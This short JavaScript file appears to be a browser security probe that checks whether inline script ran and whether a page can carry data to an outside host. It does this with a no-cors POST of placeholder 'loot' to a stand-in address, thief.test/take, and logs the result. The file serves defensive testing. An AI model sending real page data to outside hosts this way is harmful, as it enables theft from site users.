"use strict";
// Whether the page's inline script ran, and whether data can be carried away to a place that would take it.
const inline = document.documentElement.dataset.inline ?? "blocked";
fetch("https://thief.test/take", { method: "POST", mode: "no-cors", body: "loot" })
  .then(() => "sent", () => "blocked")
  .then((leak) => console.log(`REPORT ${JSON.stringify({ inline, leak })}`));
